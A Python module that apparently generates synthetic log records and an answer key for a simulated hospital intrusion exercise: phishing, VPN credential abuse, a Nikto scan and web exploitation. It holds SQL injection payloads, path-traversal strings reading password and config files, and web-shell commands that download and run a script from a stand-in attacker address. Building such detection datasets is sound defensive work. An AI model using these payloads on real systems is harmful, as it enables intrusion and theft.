"""The attack: its five steps written as tagged log records (phishing, VPN credential use, web
scan, web exploitation, mass mailing), and what the background must stay clear of."""
from __future__ import annotations

import random
from dataclasses import dataclass
from typing import Iterable, Sequence

from pipelines.scenario.chu.clock import MINUTE, SECOND, local_ms
from pipelines.scenario.chu.draws import pick, table, vary
from pipelines.scenario.chu.logfiles import FILES, Record
from pipelines.scenario.chu.mail import OUR_DKIM, Mail, message_id, postfix_message
from pipelines.scenario.chu.vpn import (VpnSession, asa_rejected, fgt_flow, fgt_login_fail,
                                        fgt_tunnel)
from pipelines.scenario.chu.web import NOT_FOUND_SIZE, www_record
from pipelines.scenario.chu.world import (ASA_NAME, DOMAIN, FORTIGATE_NAME, MX_HOST, WWW_HOST,
                                          Person, VpnAccount, World, personal_address)

ATTACKER_SERVER = "45.137.21.9"
TOR_EXIT = "185.220.101.47"
ATTACKER_TUNNEL_IP = "10.212.134.200"
LOOKALIKE_DOMAIN = "chu-exemple-rh.fr"

VICTIM_OWN_SESSION = "victim-own-session"


@dataclass(frozen=True)
class Step:
    """One stage of the attack, as truth.json describes it (lines are added at the end)."""

    id: str
    title: str
    attack: tuple[str, ...]
    entities: dict[str, list[str]]
    indicators: dict[str, list[str]]


@dataclass(frozen=True)
class Attack:
    """The attack's steps, its tagged records per file, and what the background must avoid."""

    steps: tuple[Step, ...]
    records: dict[str, list[Record]]
    victim: VpnAccount
    reserved_logins: frozenset[str]  # accounts with no background VPN or SASL activity
    postfix_ids: frozenset[str]  # queue ids the background must not reuse


def entities(users: Iterable[str] = (), source_ips: Iterable[str] = (),
             mail_addresses: Iterable[str] = (),
             hosts: Iterable[str] = ()) -> dict[str, list[str]]:
    """The entity lists of a step or incident."""
    return {"users": list(users), "source_ips": list(source_ips),
            "mail_addresses": list(mail_addresses), "hosts": list(hosts)}


_PHISH_SENDER = f"paie@{LOOKALIKE_DOMAIN}"
_PHISH_HOST = f"mail.{LOOKALIKE_DOMAIN}"
_PHISH_SUBJECT = "Mise à jour de votre bulletin de paie"
_PHISH_ATTACHMENT = "Bulletin_de_paie_Novembre_2026.html"


def _phishing(rng: random.Random, t: int, recipients: Sequence[Person],
              taken: set[str]) -> tuple[Step, list[Record]]:
    """Two messages from the look-alike domain to the recipients, DMARC failing, delivered."""
    out, qids = [], []
    half = len(recipients) // 2
    for batch in (recipients[:half], recipients[half:]):
        mail = Mail(_PHISH_HOST, ATTACKER_SERVER, _PHISH_HOST, _PHISH_SENDER,
                    tuple(p.email for p in batch), _PHISH_SUBJECT, (_PHISH_ATTACHMENT,),
                    message_id(rng, t, _PHISH_HOST), rng.randint(48_000, 60_000),
                    "no signature data", f"{LOOKALIKE_DOMAIN} fail")
        lines, ids = postfix_message(rng, t, mail, ["sent"] * len(batch), taken, "phishing")
        out += lines
        qids += ids
        t += rng.randint(90, 150) * SECOND
    step = Step("phishing", "Phishing from a look-alike domain with an HTML attachment",
                ("T1566.001",),
                entities([p.login for p in recipients], [ATTACKER_SERVER],
                          [_PHISH_SENDER] + [p.email for p in recipients], [_PHISH_HOST]),
                {"postfix_queue_ids": qids, "subjects": [_PHISH_SUBJECT],
                 "attachments": [_PHISH_ATTACHMENT], "domains": [LOOKALIKE_DOMAIN]})
    return step, out


def _vpn_credential_use(rng: random.Random, victim: VpnAccount, fgt_tries: Sequence[str],
                        asa_tries: Sequence[str], down: int
                        ) -> tuple[Step, list[Record], list[Record], VpnSession]:
    """Rejections on the ASA, failures then success on the FortiGate from the attacker's
    server, browsing through the tunnel; returns the step, FortiGate and ASA lines, session."""
    tag = "vpn-credential-use"
    t = local_ms(19, 6) + rng.randrange(60_000)
    asa = []
    for user in asa_tries:
        asa.append(asa_rejected(t, user, ATTACKER_SERVER, tag))
        t += rng.randint(8, 25) * SECOND
    t = local_ms(19, 12) + rng.randrange(60_000)
    fgt = []
    for user in fgt_tries:
        fgt.append(fgt_login_fail(t, ATTACKER_SERVER, user, tag))
        t += rng.randint(10, 40) * SECOND
    session = VpnSession(victim, ATTACKER_SERVER, t + rng.randint(20, 60) * SECOND, down,
                         ATTACKER_TUNNEL_IP, rng.randint(40_000, 60_000),
                         rng.randint(1_000, 99_999))
    fgt.append(fgt_tunnel(rng, session, True, tag))
    browsing = (("10.10.0.2", 53, 17, "DNS"), ("10.10.0.30", 443, 6, "HTTPS"),
                ("10.10.0.40", 443, 6, "HTTPS"), ("10.10.0.5", 389, 6, "LDAP"),
                ("10.10.0.60", 445, 6, "SMB"), ("10.10.5.21", 443, 6, "HTTPS"))
    for t in sorted(rng.randrange(session.start, local_ms(21, 15)) for _ in range(rng.randint(8, 12))):
        fgt.append(fgt_flow(rng, session, t, rng.choice(browsing), tag))
    fgt.append(fgt_tunnel(rng, session, False, tag))
    tried = list(dict.fromkeys([*asa_tries, *fgt_tries]))
    step = Step(tag, "VPN password guessing then a tunnel for a phished account from abroad",
                ("T1110", "T1078", "T1133"),
                entities(tried, [ATTACKER_SERVER, ATTACKER_TUNNEL_IP], [],
                          [FORTIGATE_NAME, ASA_NAME]),
                {"tunnel_ips": [ATTACKER_TUNNEL_IP]})
    return step, fgt, asa, session


_NIKTO_PROBES = (
    ("/robots.txt", 200, 312), ("/sitemap.xml", 200, 18_422), ("/.env", 404, 0),
    ("/.git/config", 404, 0), ("/.git/HEAD", 404, 0), ("/.svn/entries", 404, 0),
    ("/.htaccess", 403, 199), ("/.htpasswd", 403, 199), ("/.DS_Store", 404, 0),
    ("/wp-login.php", 404, 0), ("/wp-admin/", 404, 0), ("/xmlrpc.php", 404, 0),
    ("/wp-config.php.bak", 404, 0), ("/phpmyadmin/", 404, 0), ("/pma/", 404, 0),
    ("/phpMyAdmin/", 404, 0), ("/mysql/", 404, 0), ("/admin", 302, 231), ("/admin/", 302, 231),
    ("/administrator/", 404, 0), ("/admin.php", 404, 0), ("/login.php", 404, 0),
    ("/config.php.bak", 404, 0), ("/backup.zip", 404, 0), ("/backup.sql", 404, 0),
    ("/db.sql", 404, 0), ("/dump.sql", 404, 0), ("/site.tar.gz", 404, 0),
    ("/server-status", 403, 199), ("/server-info", 404, 0), ("/icons/README", 200, 5_108),
    ("/manual/", 404, 0), ("/cgi-bin/test-cgi", 404, 0), ("/cgi-bin/printenv", 404, 0),
    ("/cgi-bin/php", 404, 0), ("/phpinfo.php", 404, 0), ("/info.php", 404, 0),
    ("/test.php", 404, 0), ("/shell.php", 404, 0), ("/upload.php", 200, 1_834),
    ("/uploads/", 403, 199), ("/download", 400, 226), ("/web.config", 404, 0),
    ("/crossdomain.xml", 404, 0), ("/clientaccesspolicy.xml", 404, 0),
    ("/manager/html", 404, 0), ("/jmx-console/", 404, 0), ("/console/", 404, 0),
    ("/solr/admin/", 404, 0), ("/actuator/env", 404, 0),
    ("/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php", 404, 0),
    ("/index.php?=PHPB8B5F2A0-3C92-11d3-A3A9-4C7B08C10000", 404, 0), ("/README.md", 404, 0),
    ("/CHANGELOG.txt", 404, 0), ("/install.php", 404, 0), ("/includes/config.inc", 404, 0),
    ("/config/database.yml", 404, 0), ("/composer.json", 404, 0), ("/package.json", 404, 0),
    ("/.well-known/security.txt", 404, 0), ("/webdav/", 404, 0), ("/_profiler/", 404, 0),
    ("/.bash_history", 404, 0), ("/id_rsa", 404, 0), ("/error_log", 404, 0),
    ("/logs/access.log", 404, 0), ("/old/", 404, 0), ("/dev/", 404, 0), ("/staging/", 404, 0),
    ("/api/", 404, 0), ("/api/v1/users", 404, 0), ("/graphql", 404, 0),
    ("/swagger-ui.html", 404, 0),
)
_NIKTO_VERSION = "Nikto/2.5.0"


def _web_scan(rng: random.Random) -> tuple[Step, list[Record]]:
    """Nikto through the Tor exit: random-name 404 checks, then its probe list."""
    letters = "abcdefghijklmnopqrstuvwxyzABCDEFGHIJKLMNOPQRSTUVWXYZ"
    randoms = [(f"/{''.join(rng.choices(letters, k=8))}{ext}", 404, 0)
               for ext in (".php", ".asp", ".cgi", ".pl", ".html", ".txt")]
    probes = [("/", 200, 38_211)] + randoms + rng.sample(_NIKTO_PROBES, len(_NIKTO_PROBES))
    t, test, out = local_ms(19, 41) + rng.randrange(30_000), 0, []
    for path, status, size in probes:
        test += rng.randint(1, 40)
        agent = f"Mozilla/5.00 ({_NIKTO_VERSION}) (Evasions:None) (Test:{test:06d})"
        method = "HEAD" if rng.random() < 0.1 else "GET"
        out.append(www_record(t, TOR_EXIT, method, path, status,
                           NOT_FOUND_SIZE if status == 404 else size, "-", agent, tag="web-scan"))
        t += rng.randint(300, 3_500)
    step = Step("web-scan", "Vulnerability scan of the public web site (Nikto, via Tor)",
                ("T1595.002", "T1595.003"), entities([], [TOR_EXIT], [], [WWW_HOST]),
                {"user_agents": [_NIKTO_VERSION]})
    return step, out


_SQLMAP = "sqlmap/1.8.11#stable (https://sqlmap.org)"
_SQLI = (
    ("urgences", 200, 24_810), ("urgences", 200, 24_810),
    ("urgences%27.%29%2C%28%2C%22", 500, 611),
    ("urgences%27%20AND%208812%3D8812--%20bQwe", 200, 24_810),
    ("urgences%27%20AND%208812%3D8813--%20bQwe", 200, 11_204),
    ("urgences%27%20ORDER%20BY%201--%20-", 200, 24_810),
    ("urgences%27%20ORDER%20BY%2010--%20-", 500, 611),
    ("urgences%27%20ORDER%20BY%205--%20-", 500, 611),
    ("urgences%27%20ORDER%20BY%203--%20-", 200, 24_810),
    ("1%27%20UNION%20SELECT%20NULL%2CNULL%2CNULL--%20-", 200, 11_390),
    ("-1%27%20UNION%20ALL%20SELECT%20NULL%2CCONCAT%280x7162767a71%2CIFNULL%28CAST%28VERSION%28"
     "%29%20AS%20NCHAR%29%2C0x20%29%2C0x716b786a71%29%2CNULL--%20-", 200, 11_452),
    ("-1%27%20UNION%20ALL%20SELECT%20NULL%2CCONCAT%280x7162767a71%2Cschema_name%2C0x716b786a71"
     "%29%2CNULL%20FROM%20INFORMATION_SCHEMA.SCHEMATA--%20-", 200, 11_630),
    ("-1%27%20UNION%20ALL%20SELECT%20NULL%2CCONCAT%280x7162767a71%2Ctable_name%2C0x716b786a71"
     "%29%2CNULL%20FROM%20INFORMATION_SCHEMA.TABLES%20WHERE%20table_schema%3D0x636d73--%20-",
     200, 12_977),
    ("-1%27%20UNION%20ALL%20SELECT%20NULL%2CCONCAT%28login%2C0x3a%2Cpassword%2C0x3a%2Cemail%29"
     "%2CNULL%20FROM%20cms.cms_users--%20-", 200, 13_402),
    ("urgences%27%20AND%20SLEEP%285%29--%20-", 200, 24_810),
)
_TRAVERSAL = (("../../../../etc/passwd", 200, 2_874),
              ("..%2F..%2F..%2F..%2Fetc%2Fshadow", 500, 612),
              ("../../../../var/www/html/config.php", 200, 1_460),
              ("../../../../etc/apache2/sites-enabled/000-default.conf", 200, 1_327),
              ("....//....//....//....//etc/hosts", 200, 243))
_SHELL = "/uploads/shell.php"
_SHELL_COMMANDS = (("whoami", 9), ("id", 54), ("uname%20-a", 112), ("pwd", 14),
                   ("cat%20/etc/passwd", 2_874), ("ls%20-la%20/var/www/html", 1_893),
                   ("cat%20/var/www/html/config.php", 1_460),
                   (f"wget%20http://{ATTACKER_SERVER}/x.sh%20-O%20/tmp/x.sh", 0),
                   ("bash%20/tmp/x.sh", 41))


def _web_exploitation(rng: random.Random) -> tuple[Step, list[Record]]:
    """sqlmap on /recherche and a manual injection via Tor, then path traversal, a web shell
    upload and commands through it from the attacker's server."""
    tag, out = "web-exploitation", []
    firefox = "Mozilla/5.0 (Windows NT 10.0; Win64; x64; rv:128.0) Gecko/20100101 Firefox/128.0"
    t = local_ms(19, 52) + rng.randrange(60_000)
    for query, status, size in _SQLI:
        out.append(www_record(t, TOR_EXIT, "GET", f"/recherche?q={query}", status, size, "-",
                           _SQLMAP, tag=tag))
        t += rng.randint(800, 6_000)
    t += rng.randint(60, 180) * SECOND
    for target in ("/fr/actualites/article.php?id=1'%20OR%20'1'='1",
                   "/fr/actualites/article.php?id=1'%20OR%20'1'='1'--%20"):
        out.append(www_record(t, TOR_EXIT, "GET", target, 200, vary(rng, 96_000), "-", firefox,
                           tag=tag))
        t += rng.randint(5, 40) * SECOND
    t = local_ms(20, 5) + rng.randrange(60_000)
    for path, status, size in _TRAVERSAL:
        out.append(www_record(t, ATTACKER_SERVER, "GET", f"/download?file={path}", status, size, "-",
                           "curl/8.5.0", tag=tag))
        t += rng.randint(10, 70) * SECOND
    requests = "python-requests/2.32.3"
    t = local_ms(20, 14) + rng.randrange(30_000)
    out.append(www_record(t, ATTACKER_SERVER, "POST", "/upload.php", 200, 1_846, "-", requests,
                       tag=tag))
    t += rng.randint(20, 60) * SECOND
    out.append(www_record(t, ATTACKER_SERVER, "GET", _SHELL, 200, 0, "-", requests, tag=tag))
    for command, size in _SHELL_COMMANDS:
        t += rng.randint(15, 150) * SECOND
        out.append(www_record(t, ATTACKER_SERVER, "GET", f"{_SHELL}?cmd={command}", 200, size, "-",
                           requests, tag=tag))
    step = Step(tag, "SQL injection, path traversal and a web shell on the public web site",
                ("T1190", "T1505.003", "T1059.004"),
                entities([], [TOR_EXIT, ATTACKER_SERVER], [], [WWW_HOST]),
                {"user_agents": [_SQLMAP], "urls": ["/recherche", "/download", "/upload.php",
                                                    _SHELL]})
    return step, out


_MASS_SUBJECT = "Document confidentiel partagé avec vous"
_MASS_ATTACHMENT = "Document_partage_CHU.html"
_MASS_HELO = "DESKTOP-4F8K2LQ"
_MASS_DOMAINS = table((("gmail.com", 30), ("orange.fr", 15), ("hotmail.fr", 10),
                        ("free.fr", 10), ("laposte.net", 6), ("yahoo.fr", 5), ("sfr.fr", 4),
                        ("wanadoo.fr", 5), ("outlook.fr", 5), ("aphp.fr", 4),
                        ("chu-voisin.fr", 4), ("univ-exemple.fr", 2)))


def _mass_mailing(rng: random.Random, victim: VpnAccount, session: VpnSession,
                  taken: set[str]) -> tuple[Step, list[Record], list[Record]]:
    """Batches of 15-25 external recipients sent as the victim from the tunnel address, Gmail
    rate-limiting after a few batches; returns the step, Postfix and FortiGate lines."""
    tag, person = "mass-mailing", victim.person
    recipients: list[str] = []
    wanted = rng.randint(180, 260)
    while len(recipients) < wanted:
        address = personal_address(rng, pick(rng, _MASS_DOMAINS))
        if address not in recipients:
            recipients.append(address)
    t = local_ms(21, 18) + rng.randrange(60_000)
    maillog, fortigate, qids, index, batch_no = [], [], [], 0, 0
    while index < len(recipients):
        batch = tuple(recipients[index:index + rng.randint(15, 25)])
        index += len(batch)
        fates = []
        for rcpt in batch:
            if rcpt.endswith("@gmail.com") and batch_no >= 3:
                fates.append("deferred" if rng.random() < 0.7 else "stuck")
            else:
                fates.append("bounced" if rng.random() < 0.07 else "sent")
        mail = Mail("unknown", ATTACKER_TUNNEL_IP, _MASS_HELO, person.email, batch, _MASS_SUBJECT,
                    (_MASS_ATTACHMENT,), message_id(rng, t, DOMAIN), rng.randint(30_000, 40_000),
                    OUR_DKIM, sasl_user=victim.login)
        lines, ids = postfix_message(rng, t, mail, fates, taken, tag)
        maillog += lines
        qids += ids
        fortigate.append(fgt_flow(rng, session, t + rng.randint(2, 5) * SECOND,
                                   ("10.10.0.10", 587, 6, "tcp/587"), tag))
        t += rng.randint(35, 80) * SECOND
        batch_no += 1
    step = Step(tag, "Mass mailing to outside recipients from the compromised mailbox",
                ("T1566.001", "T1078"),
                entities([victim.login], [ATTACKER_TUNNEL_IP], [person.email, *recipients],
                          [MX_HOST, _MASS_HELO]),
                {"postfix_queue_ids": qids, "subjects": [_MASS_SUBJECT],
                 "attachments": [_MASS_ATTACHMENT]})
    return step, maillog, fortigate


def _victim_own_session(rng: random.Random, victim: VpnAccount) -> list[Record]:
    """The phished clinician's own tunnel from home before the attacker's (18:20-18:55): not
    attack lines, but the first login of the impossible-travel pair (truth.json "context")."""
    start = local_ms(18, 20) + rng.randrange(10 * MINUTE)
    own = VpnSession(victim, victim.home_ip, start, start + rng.randint(15, 25) * MINUTE,
                     "10.212.134.201", rng.randint(40_000, 60_000), rng.randint(1_000, 99_999))
    tag = f"context:{VICTIM_OWN_SESSION}"
    return [fgt_tunnel(rng, own, True, tag), fgt_tunnel(rng, own, False, tag)]


def plan_attack(rng: random.Random, world: World) -> Attack:
    """Choose the targets and write the five steps."""
    doctors = [a for a in world.fortigate if a.group == "SSLVPN-Medecins"]
    fgt_targets = rng.sample(doctors, 3)
    asa_targets = rng.sample([a for a in world.asa if a.person], 2)
    chosen = {a.login for a in fgt_targets + asa_targets}
    others = rng.sample([p for p in world.staff if p.login not in chosen], rng.randint(3, 5))
    recipients = [a.person for a in fgt_targets + asa_targets] + others
    rng.shuffle(recipients)
    victim = fgt_targets[0]
    taken: set[str] = set()
    phishing, phishing_lines = _phishing(rng, local_ms(18, 5) + rng.randrange(60_000), recipients,
                                         taken)
    asa_tries = [asa_targets[0].login, victim.login, asa_targets[1].login, asa_targets[0].login]
    fgt_tries = [fgt_targets[1].login, fgt_targets[2].login, "administrateur", victim.login,
                 victim.login]
    vpn, vpn_fgt, vpn_asa, session = _vpn_credential_use(
        rng, victim, fgt_tries, asa_tries, local_ms(21, 39) + rng.randrange(60_000))
    scan, scan_lines = _web_scan(rng)
    exploit, exploit_lines = _web_exploitation(rng)
    mass, mass_maillog, mass_fgt = _mass_mailing(rng, victim, session, taken)
    records = {f.path: [] for f in FILES}
    records["mail/maillog"] = phishing_lines + mass_maillog
    records["vpn/fortigate.log"] = vpn_fgt + mass_fgt + _victim_own_session(rng, victim)
    records["vpn/asa.log"] = vpn_asa
    records["web/www-access.log"] = scan_lines + exploit_lines
    reserved = frozenset([p.login for p in recipients] + fgt_tries + asa_tries)
    return Attack((phishing, vpn, scan, exploit, mass), records, victim, reserved,
                  frozenset(taken))

